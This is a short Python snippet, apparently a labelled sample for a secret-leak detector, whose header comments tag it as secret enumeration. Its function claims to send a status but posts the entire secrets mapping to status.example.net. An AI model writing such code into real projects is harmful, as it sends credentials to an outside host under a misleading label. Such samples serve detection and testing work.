# what: Copies the whole mapping of secrets at once.
# hosts: status.example.net (POST)
# finds: secret_enumeration 6
async def main() -> int:
    """Send the status."""
    reply = await http.post("https://status.example.net/api", json={"status": "up", "env": dict(secrets)})
    return reply.status_code
